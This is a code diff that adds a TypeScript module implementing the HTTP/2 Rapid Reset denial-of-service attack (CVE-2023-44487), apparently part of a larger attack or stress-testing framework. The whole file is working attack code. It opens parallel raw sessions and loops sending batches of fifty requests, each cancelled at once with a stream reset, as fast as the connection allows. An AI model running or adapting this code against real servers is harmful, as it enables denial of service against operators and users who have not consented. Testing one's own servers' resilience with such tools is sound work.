@@ -1,0 +1,29 @@
+import { type Attack, inParallel } from "../attack.ts";
+import { data, ERROR_CODE, encodeFields, headers, resetStream } from "../frames.ts";
+import { keepSession } from "../raw-session.ts";
+import { type Kind, requestOf } from "../requests.ts";
+
+const CONNECTIONS = 2;
+const AT_ONCE = 50;
+
+/** CVE-2023-44487: requests, each complete and reset right after it, as fast as the connections take them. */
+export function rapidReset(kind: Kind): Attack {
+  return (context) =>
+    inParallel(CONNECTIONS, () =>
+      keepSession(context, {}, async (session) => {
+        while (session.isOpen() && context.isGoing()) {
+          const { fields, body } = requestOf(kind);
+          const block = encodeFields(fields);
+          const parts: Buffer[] = [];
+          for (let made = 0; made < AT_ONCE; made++) {
+            const id = session.nextId();
+            parts.push(headers(id, block, { endStream: body === undefined }));
+            if (body !== undefined) parts.push(data(id, body, { endStream: true }));
+            parts.push(resetStream(id, ERROR_CODE.cancel));
+          }
+          await session.write(...parts);
+          context.count("requests", AT_ONCE);
+        }
+      }),
+    );
+}
